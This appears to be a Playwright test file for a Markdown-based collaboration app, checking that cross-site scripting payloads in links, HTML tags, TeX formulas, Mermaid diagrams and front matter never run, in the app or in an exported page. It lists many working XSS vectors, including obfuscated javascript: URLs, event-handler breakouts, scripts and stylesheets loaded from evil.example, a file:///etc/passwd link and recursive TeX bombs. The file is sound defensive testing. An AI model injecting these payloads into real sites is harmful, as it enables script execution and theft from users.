// What people have tried to smuggle into Markdown, in every place that shows it. Nothing of it may run, and nothing may even be stopped by the
// policy that stands behind: that would mean that it had come that far.
//
// The kinds are those of the OWASP "XSS Filter Evasion Cheat Sheet" and of cure53's "HTML5 Security Cheatsheet", and of reports about programs
// that show Markdown; the texts are our own.
import { readFile } from "node:fs/promises";
import { expect, type Page } from "@playwright/test";
import { atDesk, type Desk } from "../harness/desk.ts";
import { test } from "../harness/test.ts";

const RUN = "window.__ran=(window.__ran||0)+1";

/** Addresses that run something where they are followed. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript&colon;${RUN}`,
  `&#x6A&#x61vascript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `\u00a0javascript:${RUN}`,
  `javascript://example.org/%0a${RUN}`,
  `javascript&Tab;:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${RUN}>`,
  `blob:http://localhost/1`,
  `file:///etc/passwd`,
  `view-source:javascript:${RUN}`,
  `feed:javascript:${RUN}`,
  `//evil.example/x`,
  `\\\\evil.example/x`,
  `/\\evil.example/x`,
];

/** Where Markdown takes an address. */
const PLACES = [
  (address: string) => `[a](${address})`,
  (address: string) => `[a](<${address}>)`,
  (address: string) => `![a](${address})`,
  (address: string) => `![a](${address} =300x)`,
  (address: string) => `<${address}>`,
  (address: string) => `[![a](${address})](${address} "t")`,
  (address: string, at: number) => `[a][v${at}]\n\n[v${at}]: ${address}`,
];

/** Tags, attributes, and what breaks out of them. */
const TAGS = [
  `<script>${RUN}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<body onload=${RUN}><input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video><audio src=x onerror=${RUN}>`,
  `<style>@import "//evil.example/x.css"; *{background:url(//evil.example/x)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<p style="background:url(javascript:${RUN})" onmouseover=${RUN}>x</p>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template><xmp><img src=x onerror=${RUN}>`,
  `[a](https://example.org "\\" onmouseover=${RUN} x=\\"")`,
  `![a" onerror="${RUN}](https://example.org/x.png)`,
  `![a](https://example.org/"onerror="${RUN})`,
  `[a](https://example.org/'onclick='${RUN})`,
  `# <img src=x onerror=${RUN}> " onclick="${RUN}`,
  `\`\`\`"><script>${RUN}</script>\nx\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | "onclick=${RUN} |`,
  `> [!note] <img src=x onerror=${RUN}>\n> <script>${RUN}</script>`,
  `==<img src=x onerror=${RUN}>== ~~<svg onload=${RUN}>~~`,
  `$<img src=x onerror=${RUN}>$ and $$\n</code><script>${RUN}</script>\n$$`,
  `a[^x"><script>${RUN}</script>]\n\n[^x"><script>${RUN}</script>]: <img src=x onerror=${RUN}>`,
  `https://example.org/"onclick="${RUN} www.example.org/<script>${RUN}</script> a@b.org"onclick="${RUN}`,
  `- [ ] <input type=checkbox onchange=${RUN} autofocus onfocus=${RUN}>`,
  `<a href="https://example.org" id=location name=cookie>x</a><form id=document><input name=cookie></form>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `\u202e<script>${RUN}</script>\u2028<img src=x onerror=${RUN}>`,
];

/** TeX that leads, loads, marks up, or never ends. */
const FORMULAS = [
  `\\href{javascript:${RUN}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\includegraphics{https://evil.example/x.png}`,
  `\\htmlClass{x" onclick="${RUN}}{x}`,
  `\\htmlId{save-state}{x}`,
  `\\htmlStyle{background:url(//evil.example/x)}{x}`,
  `\\htmlData{x=" onclick="${RUN}}{x}`,
  `\\text{<img src=x onerror=${RUN}></annotation></math><script>${RUN}</script>}`,
  `\\color{url(//evil.example/x)}{x} \\colorbox{red;background:url(//evil.example/x)}{x}`,
  `\\unicode{x3c}script\\unicode{x3e} \\char"3c`,
  `\\def\\a{\\a\\a}\\a`,
  `\\def\\a{${"x".repeat(2_000)}}${"\\a".repeat(900)}`,
  `\\rule{1000000em}{1000000em} \\kern1000000em`,
  "{".repeat(2_000) + "}".repeat(2_000),
];

const FRONT = `---\ntitle: "<img src=x onerror=${RUN}>"\n<script>: x\nlink: javascript:${RUN}\n---\n`;

/** Diagrams that call, link, load, or loosen what holds them. */
const DIAGRAMS = [
  `flowchart LR\n  A[<img src=x onerror=${RUN}>] --> B\n  click A "javascript:${RUN}"\n  click B call alert(1)`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart LR\n  A["<script>${RUN}</script><iframe srcdoc='<script>parent.__ran=1</script>'></iframe>"] --> B\n  click A href "javascript:${RUN}"`,
  `%%{init: {"themeCSS": "@import '//evil.example/x.css'; * {background: url(//evil.example/x)}", "fontFamily": "x}</style><script>${RUN}</script>"}}%%\nflowchart LR\n  A --> B`,
  `---\nconfig:\n  securityLevel: loose\n---\nsequenceDiagram\n  participant A as <svg onload=${RUN}>\n  link A: x @ javascript:${RUN}\n  A->>B: <img src=x onerror=${RUN}>`,
  `flowchart LR\n  A@{ img: "https://evil.example/x.png", label: "x" } --> B\n  classDef x fill:url(//evil.example/x)\n  class B x`,
  `classDiagram\n  class A\n  callback A "alert" "x"\n  link A "javascript:${RUN}"`,
  `pie title </title><script>${RUN}</script>\n  "<img src=x onerror=${RUN}>" : 1`,
];

const BLOCKS = FORMULAS.map((formula) => `\`\`\`math\n${formula}\n\`\`\``);

const VECTORS = [...TAGS, ...FORMULAS.map((formula) => `$${formula}$`), ...BLOCKS, ...DIAGRAMS.map((diagram) => `\`\`\`mermaid\n${diagram}\n\`\`\``), ...PLACES.flatMap((place, index) => ADDRESSES.map((address, at) => place(address, index * 100 + at)))];

/** Counts what ran and what a policy stopped, from before the page begins. */
async function watch(page: Page): Promise<string[]> {
  const stopped: string[] = [];
  await page.exposeFunction("__stopped", (what: string) => void stopped.push(what));
  await page.addInitScript(() => {
    const tell = (window as unknown as { __stopped(what: string): void }).__stopped;
    // Within the frame of diagrams the program looks at what people wrote as HTML, in documents in which nothing runs: its policy is told of that.
    if (self.origin === "null") return;
    document.addEventListener("securitypolicyviolation", (event) => tell(`${event.violatedDirective} ${event.blockedURI}`));
  });
  page.on("dialog", (dialog) => void (stopped.push(`a dialog: ${dialog.message()}`), dialog.dismiss()));
  return stopped;
}

/** Points at and presses everything that could be followed, without going anywhere, and answers what is not as it should be. */
async function provoke(page: Page, root: string): Promise<string[]> {
  return page.locator(root).evaluateAll((roots) => {
    const bad: string[] = [];
    for (const root of roots) {
      for (const element of root.querySelectorAll<HTMLElement>("*")) {
        // What formulas are made of: their looks are styles, and how they are heard is MathML.
        const isPicture = element.matches(".diagram > img, img.diagram");
        const isFormula = element.closest(root === document.body ? "math" : ".katex") !== null;
        if (isFormula ? !/^(span|svg|path|line|math|semantics|annotation|m[a-z]+)$/i.test(element.tagName) : /^(script|iframe|object|embed|form|style|link|meta|base|svg|math|video|audio|template)$/i.test(element.tagName)) bad.push(element.tagName);
        // The height of a section that is not drawn yet is our own.
        const isOurs = element.className === "read-section" || (isFormula && !/url|expression/i.test(element.style.cssText));
        for (const { name } of element.attributes) if (/^on|^srcdoc$|^style$|^action$/i.test(name) && !(isOurs && name === "style")) bad.push(`${element.tagName} ${name}`);
        for (const name of ["href", "src"]) {
          const value = element.getAttribute(name);
          if (value !== null && !(isPicture && /^(?:blob:|data:image\/svg\+xml,)/.test(value)) && !/^(https?|mailto|tel):$/.test(new URL(value, "https://inkling.example/").protocol)) bad.push(`${name}=${value}`);
        }
        element.addEventListener("click", (event) => event.preventDefault(), { once: true });
        for (const type of ["mouseover", "focus", "click"]) element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
      }
    }
    if ("__ran" in window) bad.push("something ran");
    return bad;
  });
}

/** Brings all formulas and diagrams of the page that is read into view, and waits until they are drawn or given up. */
async function draw(page: Page): Promise<void> {
  const read = page.getByTestId("read");
  await expect(read.locator(".diagram")).toHaveCount(DIAGRAMS.length);
  await read.evaluate(async (root) => {
    for (const element of root.querySelectorAll(".math, .diagram")) {
      element.scrollIntoView({ block: "center" });
      await new Promise((next) => requestAnimationFrame(() => setTimeout(next)));
    }
  });
  await expect(read.locator(".diagram:not(:has(img)):not(.is-broken), .math:not(:has(.katex)):not(.is-broken)")).toHaveCount(0, { timeout: 60_000 });
  expect(await read.locator(".diagram img").count()).toBeGreaterThan(2);
}

test.describe("what is smuggled into Markdown", () => {
  let desk: Desk;
  atDesk((laid) => (desk = laid));

  test("runs nowhere, and comes nowhere near to it, in messages, on the page that is read and in an exported one", async () => {
    const { ada, ben, room } = desk;
    const { page } = ada;
    const stopped = await watch(page);
    await room.owner.put(desk.contentPath, FRONT + VECTORS.join("\n\n"));
    // Those of an unfinished block would swallow the ones behind them: each is a message of its own, a few together.
    for (let at = 0; at < TAGS.length; at += 1) await room.owner.ok("POST", `/api/v1/rooms/${room.roomId}/messages`, { body: TAGS[at] });
    const links = VECTORS.slice(TAGS.length).filter((vector) => vector.length < 1_000);
    for (let at = 0; at < links.length; at += 22) {
      await room.owner.ok("POST", `/api/v1/rooms/${room.roomId}/messages`, { body: links.slice(at, at + 22).join("\n\n") });
    }

    await page.evaluate(() => localStorage.setItem("inkling.face", "read"));
    await page.goto(`/documents/${room.documentId}`);
    await expect(page.getByTestId("read").locator(".properties")).toContainText("onerror");
    await page.getByTestId("read").evaluate((read) => read.scrollTo(0, read.scrollHeight));
    await draw(page);
    await expect(page.getByTestId("message").last().locator("p").first()).toBeVisible();
    expect(await provoke(page, "[data-testid=read], [data-testid=message] .prose")).toEqual([]);

    const exported = await ben.context.newPage();
    const stoppedThere = await watch(exported);
    // As somebody opens it who has kept the file: with the policy that is in the page, and no header.
    await page.getByTestId("take-document").click();
    const saving = page.waitForEvent("download", { timeout: 60_000 });
    await page.getByRole("button", { name: "Download as a web page" }).click();
    const html = await readFile(await (await saving).path(), "utf8");
    await exported.route("**/kept.html", (route) => route.fulfill({ contentType: "text/html", body: html }));
    await exported.goto("/kept.html");
    await expect(exported.locator("body")).toContainText("onerror");
    expect(await provoke(exported, "body")).toEqual([]);
    expect([...stopped, ...stoppedThere]).toEqual([]);
  });
});
